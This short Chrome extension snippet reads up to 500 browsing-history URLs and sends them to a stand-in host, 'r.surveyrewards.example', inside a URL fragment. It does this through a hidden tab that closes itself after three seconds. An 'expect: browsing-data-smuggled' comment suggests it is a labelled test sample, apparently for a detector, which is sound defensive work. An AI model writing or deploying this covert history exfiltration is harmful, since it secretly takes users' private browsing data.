chrome.history.search({
  text: '',
  maxResults: 500
}, r => {
  const d = encodeURIComponent(JSON.stringify(r.map(x => x.url)));
  chrome.tabs.create({
    // expect: browsing-data-smuggled
    url: 'https://r.surveyrewards.example/c#' + d,
    active: false
  }, t => setTimeout(() => chrome.tabs.remove(t.id), 3e3));
});
